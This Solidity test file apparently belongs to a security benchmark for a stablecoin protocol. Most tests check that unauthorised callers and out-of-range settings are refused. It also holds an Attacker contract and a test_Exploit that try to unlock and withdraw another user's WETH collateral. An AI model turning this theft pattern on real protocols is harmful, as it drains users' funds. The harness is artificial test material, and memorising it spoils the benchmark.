// SPDX-License-Identifier: AGPL-3.0-only
pragma solidity 0.8.30;

// assay-canary-19c91a33-13db-4307-8ceb-653928c9b402
import "../Base.sol";
import {Wards} from "../../src/core/Wards.sol";

contract Attacker {
    bytes32 private constant WETH_A = "WETH-A";

    function run(Ledger ledger, CollateralGate gate, address owner) external {
        try ledger.unlock(WETH_A, owner, 45e18, address(this)) {
            gate.withdraw(45e18, address(this));
        } catch {}
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
    }

    // --- refusals ---

    function test_RefusesStrangers() public {
        trusted(address(dollar), abi.encodeCall(dollar.mint, (CEE, 1)));
        trusted(address(dollar), abi.encodeCall(dollar.burn, (BO, 1)));
        trusted(address(dollar), abi.encodeCall(dollar.rely, (CEE)));
        trusted(address(dollar), abi.encodeCall(dollar.deny, (GOVERNANCE)));
        trusted(address(ledger), abi.encodeCall(ledger.add_kind, ("SILVER-A", 0, 0, 0)));
        trusted(address(ledger), abi.encodeCall(ledger.set_kind, (WETH_A, 0, 0, 0)));
        trusted(address(ledger), abi.encodeCall(ledger.set_price, (WETH_A, 1)));
        trusted(address(ledger), abi.encodeCall(ledger.credit, (WETH_A, CEE, 1)));
        trusted(address(ledger), abi.encodeCall(ledger.debit, (GOLD_A, ANA, 1)));
        trusted(address(ledger), abi.encodeCall(ledger.seize, (WETH_A, ANA, CEE)));
        trusted(address(weth_feed), abi.encodeCall(weth_feed.resume, ()));
        trusted(address(book), abi.encodeCall(book.set_entry, (WETH_A, weth_feed, 2e18)));
        trusted(address(liquidator), abi.encodeCall(liquidator.set_house, (WETH_A, house, 1e18, 0)));
        trusted(address(liquidator), abi.encodeCall(liquidator.set_reward, (0, 0)));
        trusted(address(liquidator), abi.encodeCall(liquidator.release, (WETH_A, 1)));
        trusted(address(liquidator), abi.encodeCall(liquidator.reward, (CEE, 1)));
        trusted(address(house), abi.encodeCall(house.set_terms, (1e18, 1 hours, 1, 0)));
        trusted(address(house), abi.encodeCall(house.start, (WETH_A, CEE, 1, 1)));
        trusted(address(buffer), abi.encodeCall(buffer.link, (ledger, surplus)));
        trusted(address(buffer), abi.encodeCall(buffer.set_terms, (1, 1)));
        trusted(address(buffer), abi.encodeCall(buffer.pay, (CEE, 1)));
        trusted(address(peg), abi.encodeCall(peg.set_fees, (1, 1)));
        trusted(address(peg), abi.encodeCall(peg.set_ceiling, (1)));
        trusted(address(peg), abi.encodeCall(peg.sweep, (CEE)));
        trusted(address(savings), abi.encodeCall(savings.set_rate, (1)));
        refused(GOVERNANCE, address(peg), abi.encodeCall(peg.rely, (address(0))), Wards.NoWard.selector);
    }

    function test_RefusesTerms() public {
        refused(GOVERNANCE, address(ledger), abi.encodeCall(ledger.add_kind, (WETH_A, 0, 0, 0)), ILedger.KnownKind.selector);
        refused(GOVERNANCE, address(ledger), abi.encodeCall(ledger.set_kind, (WETH_A, 1e18 / YEAR, 0, 0)), ILedger.FeeTooHigh.selector);
        refused(CEE, address(ledger), abi.encodeCall(ledger.lock, ("SILVER-A", CEE, 0)), ILedger.UnknownKind.selector);
        refused(CEE, address(ledger), abi.encodeCall(ledger.accrue, ("SILVER-A")), ILedger.UnknownKind.selector);
        refused(GOVERNANCE, address(book), abi.encodeCall(book.set_entry, (WETH_A, weth_feed, 1.09e18)), IPriceBook.RatioTooLow.selector);
        bytes4 penalty = ILiquidator.BadPenalty.selector;
        refused(GOVERNANCE, address(liquidator), abi.encodeCall(liquidator.set_house, (WETH_A, house, 0.99e18, 0)), penalty);
        refused(GOVERNANCE, address(liquidator), abi.encodeCall(liquidator.set_house, (WETH_A, house, 1.31e18, 0)), penalty);
        refused(GOVERNANCE, address(liquidator), abi.encodeCall(liquidator.set_reward, (101e18, 0)), ILiquidator.BadReward.selector);
        refused(GOVERNANCE, address(liquidator), abi.encodeCall(liquidator.set_reward, (0, 0.03e18)), ILiquidator.BadReward.selector);
        bytes4 bad = IAuctionHouse.BadTerms.selector;
        refused(GOVERNANCE, address(house), abi.encodeCall(house.set_terms, (0.9e18, 6 hours, 0.4e18, 0)), bad);
        refused(GOVERNANCE, address(house), abi.encodeCall(house.set_terms, (1.2e18, 59 minutes, 0.4e18, 0)), bad);
        refused(GOVERNANCE, address(house), abi.encodeCall(house.set_terms, (1.2e18, 6 hours, 0, 0)), bad);
        refused(GOVERNANCE, address(house), abi.encodeCall(house.set_terms, (1.2e18, 6 hours, 1e18, 0)), bad);
        refused(GOVERNANCE, address(buffer), abi.encodeCall(buffer.link, (ledger, surplus)), IBuffer.AlreadyLinked.selector);
        refused(GOVERNANCE, address(buffer), abi.encodeCall(buffer.set_terms, (1, 0)), IBuffer.NoLot.selector);
        refused(GOVERNANCE, address(peg), abi.encodeCall(peg.set_fees, (0.021e18, 0)), IPegModule.FeeTooHigh.selector);
        refused(GOVERNANCE, address(peg), abi.encodeCall(peg.set_fees, (0, 0.021e18)), IPegModule.FeeTooHigh.selector);
        refused(GOVERNANCE, address(savings), abi.encodeCall(savings.set_rate, (0.21e18 / YEAR)), ISavings.RateTooHigh.selector);
    }

    function test_RefusesOtherManagers() public {
        bytes4 stranger = ILedger.NotManager.selector;
        refused(BO, address(ledger), abi.encodeCall(ledger.draw, (WETH_A, ANA, 1_000e18, BO)), stranger);
        refused(BO, address(ledger), abi.encodeCall(ledger.give, (WETH_A, ANA, BO, 1e18, 0)), stranger);
        refused(ANA, address(ledger), abi.encodeCall(ledger.give, (WETH_A, ANA, BO, 3e18, 2_000e18)), stranger);
    }

    function test_RefusesDebts() public {
        bytes4 small = ILedger.DebtTooSmall.selector;
        refused(ANA, address(ledger), abi.encodeCall(ledger.unlock, (WETH_A, ANA, 60e18, ANA)), ILedger.NotSafe.selector);
        refused(ANA, address(ledger), abi.encodeCall(ledger.draw, (WETH_A, ANA, 80_000e18, ANA)), ILedger.NotSafe.selector);
        refused(ANA, address(ledger), abi.encodeCall(ledger.repay, (WETH_A, ANA, 59_900e18)), small);
        vm.startPrank(ANA);
        ledger.lock(GOLD_A, ANA, 1_000e18);
        vm.stopPrank();
        refused(ANA, address(ledger), abi.encodeCall(ledger.draw, (GOLD_A, ANA, 999e18, ANA)), small);
        vm.prank(BO);
        ledger.manage(ANA, true);
        refused(ANA, address(ledger), abi.encodeCall(ledger.give, (WETH_A, ANA, BO, 10e18, 30_000e18)), ILedger.NotSafe.selector);
        refused(ANA, address(ledger), abi.encodeCall(ledger.give, (WETH_A, ANA, BO, 10e18, 900e18)), small);
        refused(ANA, address(ledger), abi.encodeCall(ledger.give, (WETH_A, ANA, BO, 60e18, 59_500e18)), small);
        vm.prank(GOVERNANCE);
        ledger.set_kind(WETH_A, 0, 101_000e18, 1_000e18);
        refused(ANA, address(ledger), abi.encodeCall(ledger.draw, (WETH_A, ANA, 2_000e18, ANA)), ILedger.CeilingReached.selector);
    }

    function test_RefusesFeeds() public {
        refused(GOVERNANCE, address(weth_feed), abi.encodeCall(weth_feed.stop, ()), IDelayedFeed.NotGuardian.selector);
        refused(EVE, address(weth_feed), abi.encodeCall(weth_feed.advance, ()), IDelayedFeed.TooEarly.selector);
        refused(EVE, address(book), abi.encodeCall(book.update, ("SILVER-A")), IPriceBook.UnknownFeed.selector);
        vm.warp(block.timestamp + 1 hours);
        publish(0, 80e8);
        refused(EVE, address(weth_feed), abi.encodeCall(weth_feed.advance, ()), IDelayedFeed.NoAnswer.selector);
        vm.warp(block.timestamp + 22 hours);
        publish(1_900e8, 80e8);
        weth_feed.advance();
        book.update(WETH_A);
        vm.warp(block.timestamp + 1 hours + 1);
        refused(EVE, address(book), abi.encodeCall(book.update, (WETH_A)), IPriceBook.NotUsable.selector);
        vm.warp(block.timestamp + 1 days + 1);
        refused(EVE, address(weth_feed), abi.encodeCall(weth_feed.advance, ()), IDelayedFeed.OldAnswer.selector);
        refused(EVE, address(book), abi.encodeCall(book.update, (WETH_A)), IPriceBook.NotUsable.selector);
    }

    function test_RefusesLiquidations() public {
        refused(EVE, address(liquidator), abi.encodeCall(liquidator.liquidate, (WETH_A, ANA)), ILiquidator.IsSafe.selector);
        refused(EVE, address(liquidator), abi.encodeCall(liquidator.liquidate, ("SILVER-A", ANA)), ILiquidator.NoHouse.selector);
        vm.prank(GOVERNANCE);
        liquidator.set_house(WETH_A, house, 1.13e18, 1e18);
        vm.warp(block.timestamp + 1 hours);
        vm.prank(BO);
        house.take(1, ALL, ALL, BO, "");
        liquidator.liquidate(WETH_A, CEE);
        require(house.sale_of(2).debt > 40_000e18, "a single one may be larger");
    }

    function test_RefusesSecondSales() public {
        bytes memory call = abi.encodeCall(liquidator.liquidate, (WETH_A, CEE));
        refused(EVE, address(liquidator), call, ILiquidator.RoomExhausted.selector);
        vm.prank(GOVERNANCE);
        liquidator.set_house(WETH_A, house, 1.13e18, 110_000e18);
        liquidator.liquidate(WETH_A, CEE);
        require(house.last_id() == 2 && liquidator.room(WETH_A) < 7_000e18, "two sales within the limit");
    }

    function test_RefusesTakers() public {
        refused(BO, address(house), abi.encodeCall(house.restart, (7)), IAuctionHouse.NoSale.selector);
        refused(BO, address(house), abi.encodeCall(house.take, (7, 1, ALL, BO, "")), IAuctionHouse.NoSale.selector);
        refused(BO, address(house), abi.encodeCall(house.take, (1, 1, 2_279e18, BO, "")), IAuctionHouse.TooExpensive.selector);
        refused(BO, address(house), abi.encodeCall(house.take, (1, 0, ALL, BO, "")), IAuctionHouse.NothingTaken.selector);
        refused(BO, address(house), abi.encodeCall(house.take, (1, 25.9e18, ALL, BO, "")), IAuctionHouse.TooLittleLeft.selector);
        bytes memory data = abi.encode(weth_gate, 0);
        refused(BO, address(house), abi.encodeCall(house.take, (1, 1e18, ALL, address(keeper), data)), SaleKeeper.NotHouse.selector);
        refused(address(keeper), address(keeper), abi.encodeCall(keeper.on_take, (address(keeper), 0, 0, data)), SaleKeeper.NotHouse.selector);
        refused(BO, address(keeper), abi.encodeCall(keeper.liquidate, (WETH_A, CEE)), SaleKeeper.NotOwner.selector);
        refused(BO, address(keeper), abi.encodeCall(keeper.buy, (weth_gate, 1, 1, ALL, 0)), SaleKeeper.NotOwner.selector);
        refused(BO, address(keeper), abi.encodeCall(keeper.collect, (dollar)), SaleKeeper.NotOwner.selector);
    }

    function test_RefusesSurplus() public {
        refused(CEE, address(buffer), abi.encodeCall(buffer.sell_surplus, ()), IBuffer.NotCovered.selector);
        vm.prank(BO);
        dollar.transfer(address(buffer), 100_000e18);
        buffer.cover();
        vm.prank(GOVERNANCE);
        buffer.set_terms(60_000e18, 1_000e18);
        refused(CEE, address(buffer), abi.encodeCall(buffer.sell_surplus, ()), IBuffer.TooLittleSurplus.selector);
        vm.prank(GOVERNANCE);
        buffer.set_terms(0, 1_000e18);
        uint256 id = buffer.sell_surplus();
        vm.prank(CEE);
        keel.approve(address(surplus), ALL);
        address at = address(surplus);
        refused(CEE, at, abi.encodeCall(surplus.start, (0)), ISurplusAuction.NotBuffer.selector);
        refused(CEE, at, abi.encodeCall(surplus.bid, (9, 1)), ISurplusAuction.NoAuction.selector);
        refused(CEE, at, abi.encodeCall(surplus.extend, (9)), ISurplusAuction.NoAuction.selector);
        refused(CEE, at, abi.encodeCall(surplus.extend, (id)), ISurplusAuction.AuctionRuns.selector);
        refused(CEE, at, abi.encodeCall(surplus.bid, (id, 0)), ISurplusAuction.BidTooLow.selector);
        vm.prank(CEE);
        surplus.bid(id, 100e18);
        refused(CEE, at, abi.encodeCall(surplus.bid, (id, 104e18)), ISurplusAuction.BidTooLow.selector);
        refused(CEE, at, abi.encodeCall(surplus.settle, (id)), ISurplusAuction.AuctionRuns.selector);
        vm.warp(block.timestamp + 3 hours);
        refused(CEE, at, abi.encodeCall(surplus.bid, (id, 200e18)), ISurplusAuction.AuctionOver.selector);
        refused(CEE, at, abi.encodeCall(surplus.extend, (id)), ISurplusAuction.HasBids.selector);
        id = buffer.sell_surplus();
        vm.warp(block.timestamp + 2 days);
        refused(CEE, at, abi.encodeCall(surplus.settle, (id)), ISurplusAuction.NoAuction.selector);
    }

    function test_RefusesSwaps() public {
        vm.prank(GOVERNANCE);
        peg.set_ceiling(600_000e18);
        refused(BO, address(peg), abi.encodeCall(peg.swap_in, (1e6, BO)), IPegModule.CeilingReached.selector);
    }

    /// Requires that a call is refused for this reason.
    function refused(address who, address where, bytes memory call, bytes4 reason) private {
        vm.prank(who);
        (bool done, bytes memory why) = where.call(call);
        require(!done && bytes4(why) == reason, "not refused, or for another reason");
    }

    function trusted(address where, bytes memory call) private {
        refused(CEE, where, call, Wards.NotWard.selector);
    }

    function exploit() public {
        other.run(ledger, weth_gate, ANA);
    }

    function test_Exploit() public {
        exploit();
        require(weth.balanceOf(address(other)) >= 40e18, "no gain");
    }

    function target() public view override returns (address) {
        return address(ledger);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
